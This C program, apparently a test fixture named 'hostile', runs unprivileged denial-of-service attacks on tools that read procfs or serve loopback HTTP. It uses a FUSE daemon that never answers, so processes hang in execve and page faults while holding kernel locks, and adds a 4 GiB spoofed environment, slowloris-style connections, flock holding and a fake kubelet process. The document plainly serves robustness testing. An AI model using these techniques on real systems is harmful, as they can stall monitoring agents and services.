// Attacks of a user without privileges on programs that read procfs or serve HTTP on loopback.
//
// hostile all PORT   starts every attack, prints "ready", and runs until it is killed:
//   - a process in execve(2) that waits in the flush of a file on a FUSE file system whose daemon
//     does not answer; the kernel holds the lock that readers of its environment need
//   - a process whose environment is 4 GiB long, and whose arguments are mapped from such a file
//   - a process that waits for such a file in a page fault
//   - a process that holds the lock of an epoll descriptor while it waits for such a file
//   - 16 connections to PORT that send a byte each 0.3 s, opened again when they are closed
// hostile mark ID    a process with the mark of the mount ID, and a file called "fuse" open
// hostile bind DIRECTORY  a process that has the directory bound in namespaces of its own
// hostile lock DIRECTORY  a process that holds the lock of the directory (flock(2))
// hostile kubelet DIRECTORY  a process called kubelet, whose directory of drivers this is
//
// All of it runs as user 1000.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#define FILE_NAME "/tmp/hostile"
#define USER 1000
#define SLOW 16

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static void put(const char *file, const char *text) {
  int fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0 || write(fd, text, strlen(text)) < 0) fail(file);
  close(fd);
}

// A process that ends with this one. Returns 0 in it.
static int child(void) {
  int pid = fork();
  if (pid < 0) fail("fork");
  if (pid == 0) prctl(PR_SET_PDEATHSIG, SIGKILL);
  return pid;
}

static void reply(int dev, unsigned long unique, int error, const void *body, size_t length) {
  struct fuse_out_header head = {sizeof head + length, error, unique};
  struct iovec parts[2] = {{&head, sizeof head}, {(void *)body, length}};
  if (writev(dev, parts, length ? 2 : 1) < 0 && errno != ENOENT) fail("writev");
}

// Serves a file system that is one file. Never answers a read or a flush.
static void serve(int dev) {
  static char buffer[1 << 20];
  for (;;) {
    ssize_t length = read(dev, buffer, sizeof buffer);
    if (length < 0 && errno == EINTR) continue;
    if (length < 0) exit(0);
    struct fuse_in_header *in = (void *)buffer;
    struct fuse_attr_out attr = {.attr_valid = 3600};
    attr.attr.ino = 1;
    attr.attr.size = 1 << 20;
    attr.attr.mode = S_IFREG | 0644;
    attr.attr.nlink = 1;
    attr.attr.uid = attr.attr.gid = USER;
    struct fuse_init_out init = {.major = 7, .minor = 31, .max_write = 4096};
    struct fuse_open_out opened = {.fh = 1, .open_flags = FOPEN_KEEP_CACHE};
    switch (in->opcode) {
    case FUSE_INIT:
      reply(dev, in->unique, 0, &init, sizeof init);
      break;
    case FUSE_GETATTR:
      reply(dev, in->unique, 0, &attr, sizeof attr);
      break;
    case FUSE_OPEN:
      reply(dev, in->unique, 0, &opened, sizeof opened);
      break;
    case FUSE_READ:
    case FUSE_FLUSH:
    case FUSE_FORGET:
    case FUSE_BATCH_FORGET:
    case FUSE_INTERRUPT:
      break;
    default:
      reply(dev, in->unique, -ENOSYS, NULL, 0);
    }
  }
}

static void enter_namespaces(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) fail("unshare");
  put("/proc/self/setgroups", "deny");
  put("/proc/self/uid_map", "1000 1000 1");
  put("/proc/self/gid_map", "1000 1000 1");
}

static void mount_file(void) {
  char options[100];
  put(FILE_NAME, "");
  enter_namespaces();
  int dev = open("/dev/fuse", O_RDWR | O_CLOEXEC);
  if (dev < 0) fail("/dev/fuse");
  snprintf(options, sizeof options, "fd=%d,rootmode=100644,user_id=1000,group_id=1000", dev);
  if (mount("hostile", FILE_NAME, "fuse", MS_NOSUID | MS_NODEV, options)) fail("mount");
  if (!child()) serve(dev);
  close(dev);
}

static int open_file(void) {
  int fd = open(FILE_NAME, O_RDONLY | O_CLOEXEC);
  struct stat file;
  // The kernel asks for the length of the file only now.
  if (fd < 0 || fstat(fd, &file)) fail(FILE_NAME);
  return fd;
}

static char *map_file(void) {
  char *at = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE, open_file(), 0);
  if (at == MAP_FAILED) fail("mmap");
  return at;
}

static void wait_in_execve(void) {
  open_file();
  execl("/bin/busybox", "busybox", "sleep", "600", NULL);
  fail("execve");
}

static void long_environment(void) {
  size_t length = 4UL << 30;
  char *at = mmap(NULL, length, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (at == MAP_FAILED) fail("mmap of the environment");
  unsigned long args = (unsigned long)map_file(), env = (unsigned long)at, stat[60];
  FILE *file = fopen("/proc/self/stat", "r");
  static char text[4096];
  if (!file || !fgets(text, sizeof text, file)) fail("stat");
  char *word = strtok(strrchr(text, ')') + 2, " ");
  // The first word after the name is field 3 (proc_pid_stat(5)).
  for (int field = 3; word && field < 60; field++, word = strtok(NULL, " "))
    stat[field] = strtoul(word, NULL, 10);
  struct prctl_mm_map map = {
      .start_code = stat[26], .end_code = stat[27], .start_stack = stat[28],
      .start_data = stat[45], .end_data = stat[46], .start_brk = stat[47],
      .brk = (unsigned long)sbrk(0),
      .arg_start = args, .arg_end = args + 4096,
      .env_start = env, .env_end = env + length,
      .exe_fd = -1,
  };
  if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0)) fail("prctl");
  for (;;) pause();
}

static void wait_in_a_fault(void) {
  volatile char *at = map_file();
  *at = 1;
  fail("the file answers");
}

static void hold_epoll(void) {
  int events = epoll_create1(EPOLL_CLOEXEC), event = eventfd(1, EFD_CLOEXEC);
  struct epoll_event wanted = {.events = EPOLLIN};
  epoll_ctl(events, EPOLL_CTL_ADD, event, &wanted);
  epoll_wait(events, (void *)map_file(), 1, 0);
  fail("epoll_wait");
}

static int dial(struct sockaddr_in *to) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) fail("socket");
  connect(fd, (void *)to, sizeof *to);
  return fd;
}

static void slow_connections(int port) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int fds[SLOW];
  for (int i = 0; i < SLOW; i++) fds[i] = dial(&to);
  signal(SIGPIPE, SIG_IGN);
  for (;; usleep(300000))
    for (int i = 0; i < SLOW; i++)
      if (send(fds[i], "G", 1, MSG_DONTWAIT | MSG_NOSIGNAL) < 0 && errno != EAGAIN) {
        close(fds[i]);
        fds[i] = dial(&to);
      }
}

// Binds a directory in a mount namespace of its own, as a shared mount.
static void bind_directory(const char *directory) {
  const char *target = "/tmp/bound";
  mkdir(target, 0755);
  enter_namespaces();
  if (mount(directory, target, NULL, MS_BIND, NULL)) fail("bind");
  if (mount(NULL, target, NULL, MS_SHARED, NULL)) fail("shared");
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  if (!strncmp(argv[1], "--", 2)) strcpy(argv[1], "marked");
  if (strcmp(argv[1], "marked") && (setgid(USER) || setuid(USER))) fail("setuid");
  // Root's program is not dumpable after setuid(2), and then cannot change its maps.
  prctl(PR_SET_DUMPABLE, 1);
  if (!strcmp(argv[1], "mark")) {
    setenv("SPC_MOUNT", argv[2], 1);
    mkdir("/tmp/named", 0755);
    if (open("/tmp/named/fuse", O_RDWR | O_CREAT, 0600) < 0) fail("fuse");
    execl(argv[0], argv[0], "marked", argv[2], NULL);
    fail("execve");
  }
  if (!strcmp(argv[1], "kubelet")) {
    execl("/tmp/kubelet", "kubelet", "--volume-plugin-dir", argv[2], NULL);
    fail("execve");
  }
  if (!strcmp(argv[1], "lock") && flock(open(argv[2], O_RDONLY), LOCK_EX)) fail("flock");
  if (!strcmp(argv[1], "bind")) bind_directory(argv[2]);
  if (!strcmp(argv[1], "all")) {
    mount_file();
    if (!child()) wait_in_execve();
    if (!child()) long_environment();
    if (!child()) wait_in_a_fault();
    if (!child()) hold_epoll();
    if (!child()) slow_connections(atoi(argv[2]));
    usleep(300000);
  }
  puts("ready");
  fflush(stdout);
  for (;;) pause();
}
